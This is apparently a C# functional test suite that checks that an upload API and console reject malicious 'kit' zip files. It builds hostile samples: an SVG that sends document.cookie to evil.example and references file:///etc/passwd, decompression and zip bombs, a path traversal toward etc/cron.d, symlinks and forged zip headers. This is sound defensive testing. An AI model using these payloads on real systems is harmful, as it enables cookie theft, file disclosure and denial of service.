using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using SkiaSharp;
using Tcma.Domain.Identity;
using Tcma.FunctionalTests.Identity;
using Tcma.FunctionalTests.Infrastructure;
using static Tcma.FunctionalTests.Kits.HostileKits;

namespace Tcma.FunctionalTests.Kits;

/// <summary>
/// Hostile uploads built here, refused by the API and by the console's upload page alike, each with a problem that
/// names the file and says what to do, and nothing of them in blobs or tables afterwards. One app serves every case.
/// </summary>
public sealed class KitContentCheckTests(KitContentCheckTests.App app) : IClassFixture<KitContentCheckTests.App>
{
    public sealed class App : IAsyncLifetime
    {
        public TcmaAppFactory Factory { get; private set; } = null!;
        public async Task InitializeAsync() => Factory = await TcmaAppFactory.StartAsync(localTriggerHost: false);
        public async Task DisposeAsync() => await Factory.DisposeAsync();
    }

    public sealed record Hostile(string Name, Func<byte[]> Zip, string File, string Message)
    {
        public override string ToString() => Name;
    }

    private static byte[] Font => KitZips.Files(KitZips.CloudBackup)["fonts/DejaVuSans.ttf"];

    private static byte[] Html(string title) => Encoding.UTF8.GetBytes($"<!DOCTYPE html><html><head><title>{title}</title></head><body><script>alert(1)</script></body></html>");

    private const string HostileSvg = """
        <?xml version="1.0"?>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="fetch('https://evil.example/'+document.cookie)">
          <script>alert(document.domain)</script>
          <image xlink:href="file:///etc/passwd" width="100" height="100"/>
        </svg>
        """;

    private static byte[] Flip(byte[] stored)
    {
        var damaged = stored.ToArray();
        damaged[damaged.Length / 2] ^= 0x55;
        return damaged;
    }

    private static byte[] WithEmailHtml(byte[] html) => Zip(f => f["emails/welcome.html"] = html);

    private static byte[] PictureKit(string path, byte[] picture) => KitZips.Zip(WithPicture(path, picture));

    private static byte[] Raw(Func<RawEntry, RawEntry> change, Action<Dictionary<string, byte[]>>? files = null)
    {
        var all = KitZips.Files(KitZips.CloudBackup);
        files?.Invoke(all);
        return RawZip(Entries(all, change));
    }

    public static readonly Hostile[] Cases =
    [
        // 1. Damaged in transit.
        new("stored file failing its CRC", () => Raw(e => e.Name == "fonts/DejaVuSans.ttf" ? e with { Deflate = false, Damage = Flip } : e),
            "fonts/DejaVuSans.ttf", "fails its checksum"),
        new("deflated file with a flipped byte", () => Raw(e => e.Name == "fonts/DejaVuSans.ttf" ? e with { Damage = Flip } : e),
            "fonts/DejaVuSans.ttf", "zip the kit again"),
        // 2. Content that is not what its name says.
        new("HTML saved as a PNG the template draws", () => PictureKit("images/photo.png", Html("not a picture")), "images/photo.png", "holds an HTML document"),
        new("HTML saved as the kit's own font", () => Zip(f => f["fonts/DejaVuSans.ttf"] = Html("not a font")), "fonts/DejaVuSans.ttf", "holds an HTML document"),
        new("a JPEG named .png", () => PictureKit("images/photo.png", Encode(64, 64, SKEncodedImageFormat.Jpeg)), "images/photo.png", "rename it to end in .jpg"),
        new("a PNG cut short", () => PictureKit("images/photo.png", Encode(300, 200, SKEncodedImageFormat.Png)[..400]), "images/photo.png", "cut short"),
        new("a well-formed PNG whose picture data runs out", () => PictureKit("images/photo.png", PngClaiming(400, 300)), "images/photo.png", "part of it does not decode"),
        new("a well-formed PNG whose picture data is noise", () => PictureKit("images/photo.png", NoisyPng(64, 64)), "images/photo.png", "does not decode"),
        new("a zip hidden after a PNG's end", () => PictureKit("images/photo.png", [.. Encode(64, 64, SKEncodedImageFormat.Png), .. InnerZipOfZeros(1024)]),
            "images/photo.png", "after the end of the picture"),
        // 3. Files nothing uses.
        new("an extra picture nothing draws", () => Zip(f => f["images/extra.png"] = Encode(64, 64, SKEncodedImageFormat.Png)), "images/extra.png", "not used by kit.json"),
        new("an extra text file", () => Zip(f => f["notes/todo.txt"] = "remember the launch"u8.ToArray()), "notes/todo.txt", "not used by kit.json"),
        new("macOS leftovers", () => Zip(f => f["__MACOSX/._kit.json"] = [0, 5, 22, 7]), "__MACOSX/._kit.json", "macOS adds this"),
        // 4. Decompression bombs.
        new("a 60,000 x 60,000 PNG the template draws", () => PictureKit("images/photo.png", PngClaiming(60_000, 60_000)), "images/photo.png", "decompression bomb"),
        new("a 60,000 x 60,000 PNG nothing draws", () => Zip(f => f["images/bomb.png"] = PngClaiming(60_000, 60_000)), "images/bomb.png", "not used"),
        new("a PNG whose colour profile unpacks to 64 MiB", () => PictureKit("images/photo.png", PngWith(Encode(64, 64, SKEncodedImageFormat.Png), IccBombChunk(64 << 20))),
            "images/photo.png", "colour profile (ICC) unpacks to more than"),
        new("a JPEG with 1.3 MiB of EXIF", () => PictureKit("images/photo.jpg", JpegWith(Encode(64, 64, SKEncodedImageFormat.Jpeg), 0xE1, ExifSegment(), 20)),
            "images/photo.jpg", "metadata"),
        // 5. SVG.
        new("an SVG with onload, script and file:///etc/passwd", () => PictureKit("images/logo.svg", Encoding.UTF8.GetBytes(HostileSvg)), "images/logo.svg", "SVG is not a kit file"),
        new("an SVG saved as a PNG", () => PictureKit("images/photo.png", Encoding.UTF8.GetBytes(HostileSvg)), "images/photo.png", "SVG is not a kit file"),
        // 6. Archives inside the kit.
        new("inner.zip unpacking to 64 MiB of zeros", () => Zip(f => f["inner.zip"] = InnerZipOfZeros(64 << 20)), "inner.zip", "a zip archive"),
        new("a zip saved as the PNG the template draws", () => PictureKit("images/photo.png", InnerZipOfZeros(64 << 20)), "images/photo.png", "a zip archive"),
        new("a gzip file", () => Zip(f => f["images/backup.gz"] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]), "images/backup.gz", "gzip archive"),
        // Neighbours: pictures.
        new("an animated WebP", () => PictureKit("images/photo.webp", AnimatedWebp()), "images/photo.webp", "animated"),
        new("an animated GIF", () => PictureKit("images/photo.gif", AnimatedGif()), "images/photo.gif", "animated"),
        new("an animated PNG", () => PictureKit("images/photo.png", PngWith(Encode(64, 64, SKEncodedImageFormat.Png), PngChunk("acTL", [0, 0, 0, 2, 0, 0, 0, 0]))),
            "images/photo.png", "animated"),
        // Neighbours: fonts.
        new("a TrueType collection", () => Zip(f => f["fonts/DejaVuSans.ttf"] = Collection(f["fonts/DejaVuSans.ttf"])), "fonts/DejaVuSans.ttf", "font collection (.ttc)"),
        new("a font with a broken cmap", () => Zip(f => f["fonts/DejaVuSans.ttf"] = WithBrokenCmap(f["fonts/DejaVuSans.ttf"])), "fonts/DejaVuSans.ttf", "character map (cmap)"),
        new("a WOFF web font", () => Zip(f => f["fonts/DejaVuSans.ttf"] = [.. "wOFF"u8, .. f["fonts/DejaVuSans.ttf"][4..]]), "fonts/DejaVuSans.ttf", "WOFF web font"),
        new("a font cut short", () => Zip(f => f["fonts/DejaVuSans.ttf"] = f["fonts/DejaVuSans.ttf"][..4096]), "fonts/DejaVuSans.ttf", "runs past the end"),
        // Neighbours: text.
        new("a UTF-16 email template", () => WithEmailHtml([.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<p>Hello {{ recipient.first_name }}</p>")]),
            "emails/welcome.html", "UTF-16"),
        new("a UTF-16 template without its byte-order mark", () => WithEmailHtml(Encoding.BigEndianUnicode.GetBytes("<p>Hello {{ recipient.first_name }}</p>")),
            "emails/welcome.html", "UTF-16"),
        new("a Windows-1252 template", () => WithEmailHtml([.. "<p>We"u8, 0x92, .. "re here</p>"u8]), "emails/welcome.html", "not valid UTF-8 at line 1, column 6"),
        new("a template with a control character", () => WithEmailHtml("<p>Hi\u001B[31m</p>"u8.ToArray()), "emails/welcome.html", "control character U+001B"),
        new("a UTF-16 kit.json", () => Zip(f => f["kit.json"] = [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(f["kit.json"]))]),
            "kit.json", "UTF-16"),
        // Neighbours: the zip's own records.
        new("a data descriptor lying about sizes", () => Raw(e => e.Name == "emails/welcome.html" ? e with { Descriptor = true, DescriptorSaysUncompressed = 99 } : e),
            "emails/welcome.html", "data descriptor says 99 bytes"),
        new("a local header lying about sizes", () => Raw(e => e.Name == "emails/welcome.html" ? e with { LocalSaysUncompressed = 99 } : e),
            "emails/welcome.html", "disagree"),
        new("zip64 sizes lying in the local header", () => Raw(e => e.Name == "emails/welcome.html" ? e with { Zip64 = true, LocalSaysUncompressed = 5 << 20 } : e with { Zip64 = true }),
            "emails/welcome.html", "disagree"),
        new("an encrypted entry", () => Raw(e => e.Name == "emails/welcome.html" ? e with { Encrypted = true } : e), "emails/welcome.html", "encrypted"),
        new("an end record declaring 60,000 entries", () => RawZip(Entries(KitZips.Files(KitZips.CloudBackup)), declaredEntries: 60_000), "kit.zip", "at most 500"),
        new("overlapping entries", () => RawZip(Entries(KitZips.Files(KitZips.CloudBackup)), directory: Overlap), "emails/welcome.txt", "overlaps"),
        new("bytes hidden before the first file", () => RawZip(Entries(KitZips.Files(KitZips.CloudBackup)), junkBefore: 4096), "kit.zip", "belong to no file"),
        new("a symbolic link", () => Raw(e => e.Name == "emails/welcome.txt" ? e with { Deflate = false, ExternalAttributes = 0xA1FFu << 16 } : e), "emails/welcome.txt", "links"),
        new("names differing only by case", () => Zip(f => f["Emails/Welcome.html"] = f["emails/welcome.html"]), "Emails/Welcome.html", "only by upper and lower case"),
        new("a path leaving the kit", () => Zip(f => f["images/../../../etc/cron.d/x"] = [1]), "images/../../../etc/cron.d/x", "'..'"),
        new("a Windows-reserved character", () => Zip(f => f["images/a:b.png"] = [1]), "images/a:b.png", "Windows cannot hold them"),
    ];

    /// <summary>The directory lists one file's header twice: two entries unpacking the same stored bytes, the trick of zip bombs that stay small.</summary>
    private static IEnumerable<(RawEntry, long)> Overlap(IReadOnlyList<(RawEntry Entry, long Offset)> written) =>
        [.. written, written.First(w => w.Entry.Name == "emails/welcome.txt")];

    public static TheoryData<Hostile> HostileCases() => new(Cases);

    [Theory]
    [MemberData(nameof(HostileCases))]
    public async Task A_hostile_upload_is_refused_by_the_api_and_the_console_naming_the_file_and_nothing_is_stored(Hostile hostile)
    {
        var vendor = "hostile";
        var client = await app.Factory.SignedInAsync(vendor, VendorRole.ChannelManager);
        var before = await KitUploadTests.EverythingStoredAsync(app.Factory);
        var zip = hostile.Zip();

        var response = await client.PostAsync($"/api/vendors/{vendor}/kits", KitUploadTests.Form(zip));
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{response.StatusCode}: {await response.Content.ReadAsStringAsync()}");
        var problems = await KitUploadTests.ProblemsAsync(response);
        Assert.True(problems.Any(p => p.File == hostile.File && p.Message.Contains(hostile.Message, StringComparison.Ordinal)),
            string.Join("\n", problems.Select(p => $"{p.File} ({p.Place}): {p.Message}")));

        var page = await client.PostAsync("/console/kits", await KitConsoleTests.UploadFormAsync(client, zip));
        Assert.Equal(HttpStatusCode.BadRequest, page.StatusCode);
        var html = WebUtility.HtmlDecode(await page.Content.ReadAsStringAsync());
        Assert.Contains("The kit was not uploaded", html);
        Assert.Contains($"<strong>{hostile.File}</strong>", html);
        Assert.Contains(hostile.Message, html);

        Assert.Equal(before, await KitUploadTests.EverythingStoredAsync(app.Factory));
        Assert.Empty((await client.GetFromJsonAsync<JsonElement>($"/api/vendors/{vendor}/kits")).EnumerateArray());
    }

    [Fact]
    public async Task A_zip64_archive_and_one_streamed_with_data_descriptors_upload_when_their_records_agree()
    {
        var client = await app.Factory.SignedInAsync("zip64", VendorRole.ChannelManager);
        var zip64 = RawZip(Entries(KitZips.Files(KitZips.CloudBackup), e => e with { Zip64 = true }));
        var created = await client.PostAsync("/api/vendors/zip64/kits", KitUploadTests.Form(zip64));
        Assert.True(created.StatusCode == HttpStatusCode.Created, await created.Content.ReadAsStringAsync());

        var streamed = RawZip(Entries(KitZips.Files(KitZips.CloudBackup), e => e with { Descriptor = true }));
        var next = await client.PostAsync("/api/vendors/zip64/kits", KitUploadTests.Form(Rezipped(streamed, "1.1.0")));
        Assert.True(next.StatusCode == HttpStatusCode.Created, await next.Content.ReadAsStringAsync());
        Assert.Equal(2, (await client.GetFromJsonAsync<JsonElement>("/api/vendors/zip64/kits/cloud-backup-nurture")).GetProperty("versions").GetArrayLength());
    }

    /// <summary>The same upload with another version in kit.json, written the same way.</summary>
    private static byte[] Rezipped(byte[] _, string version)
    {
        var files = KitZips.Files(KitZips.CloudBackup);
        files["kit.json"] = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(files["kit.json"]).Replace("\"version\": \"1.0.0\"", $"\"version\": \"{version}\""));
        return RawZip(Entries(files, e => e with { Descriptor = true }));
    }

    [Fact]
    public async Task Still_png_jpeg_webp_and_gif_pictures_drawn_by_a_template_upload_and_only_the_checked_files_are_stored()
    {
        const string vendor = "pictures";
        var client = await app.Factory.SignedInAsync(vendor, VendorRole.ChannelManager);
        var files = KitZips.Files(KitZips.CloudBackup);
        var pictures = new Dictionary<string, byte[]>
        {
            ["images/photo.png"] = Encode(320, 200, SKEncodedImageFormat.Png),
            ["images/photo.jpg"] = Encode(320, 200, SKEncodedImageFormat.Jpeg),
            ["images/photo.webp"] = Encode(320, 200, SKEncodedImageFormat.Webp),
            ["images/still.gif"] = [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, 0xFF, 0, 0, 0, 0, 0xFF, 0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3B],
        };
        var layers = string.Concat(pictures.Keys.Select((p, i) =>
            $"{{ \"type\": \"image\", \"name\": \"photo {i}\", \"file\": \"{p}\", \"box\": {{ \"x\": {i * 0.2:0.0}, \"y\": 0, \"w\": 0.2, \"h\": 0.2 }} }},"));
        files["images/social-banner.json"] = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(files["images/social-banner.json"]).Replace("\"layers\": [", "\"layers\": [ " + layers));
        foreach (var (path, bytes) in pictures) files[path] = bytes;

        var created = await client.PostAsync($"/api/vendors/{vendor}/kits", KitUploadTests.Form(KitZips.Zip(files)));
        Assert.True(created.StatusCode == HttpStatusCode.Created, await created.Content.ReadAsStringAsync());
        var stored = (await KitUploadTests.EverythingStoredAsync(app.Factory))
            .Where(s => s.StartsWith($"blob {app.Factory.StoragePrefix}-kits/{vendor}/cloud-backup-nurture/1.0.0/", StringComparison.Ordinal))
            .Select(s => s[$"blob {app.Factory.StoragePrefix}-kits/{vendor}/cloud-backup-nurture/1.0.0/".Length..]).Order(StringComparer.Ordinal);
        // Every file the kit uses, the fonts' licence beside them, and nothing else.
        Assert.Equal(files.Keys.Order(StringComparer.Ordinal), stored);

        // What is served of a kit is what was rendered, typed by the renderer, never sniffed, sandboxed if opened as a page.
        var preview = await client.GetAsync($"/api/vendors/{vendor}/kits/cloud-backup-nurture/versions/1.0.0/images/social-banner/preview?partner=sample-partner");
        Assert.True(preview.StatusCode == HttpStatusCode.OK, await preview.Content.ReadAsStringAsync());
        Assert.Equal("image/png", preview.Content.Headers.ContentType?.MediaType);
        Assert.Equal("nosniff", Assert.Single(preview.Headers.GetValues("X-Content-Type-Options")));
        Assert.StartsWith("sandbox;", Assert.Single(preview.Headers.GetValues("Content-Security-Policy")));
        var email = await client.GetAsync($"/api/vendors/{vendor}/kits/cloud-backup-nurture/versions/1.0.0/emails/welcome/preview?partner=sample-partner");
        Assert.Equal("nosniff", Assert.Single(email.Headers.GetValues("X-Content-Type-Options")));
        Assert.StartsWith("sandbox;", Assert.Single(email.Headers.GetValues("Content-Security-Policy")));
    }

    [Fact]
    public async Task A_damaged_zip_re_uploaded_under_a_new_version_says_it_is_damaged()
    {
        const string vendor = "redo";
        var client = await app.Factory.SignedInAsync(vendor, VendorRole.ChannelManager);
        Assert.Equal(HttpStatusCode.Created, (await client.PostAsync($"/api/vendors/{vendor}/kits", KitUploadTests.Form(KitZips.CloudBackupWith()))).StatusCode);
        var before = await KitUploadTests.EverythingStoredAsync(app.Factory);

        var files = KitZips.Files(KitZips.CloudBackup);
        files["kit.json"] = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(files["kit.json"]).Replace("\"version\": \"1.0.0\"", "\"version\": \"1.1.0\""));
        var damaged = RawZip(Entries(files, e => e.Name == "fonts/DejaVuSans.ttf" ? e with { Deflate = false, Damage = Flip } : e));
        foreach (var upload in new[] { damaged, RawZip(Entries(KitZips.Files(KitZips.CloudBackup), e => e.Name == "fonts/DejaVuSans.ttf" ? e with { Deflate = false, Damage = Flip } : e)) })
        {
            var response = await client.PostAsync($"/api/vendors/{vendor}/kits", KitUploadTests.Form(upload));
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Contains(await KitUploadTests.ProblemsAsync(response), p => p.File == "fonts/DejaVuSans.ttf" && p.Message.Contains("checksum", StringComparison.Ordinal));
        }
        Assert.Equal(before, await KitUploadTests.EverythingStoredAsync(app.Factory));
    }
}
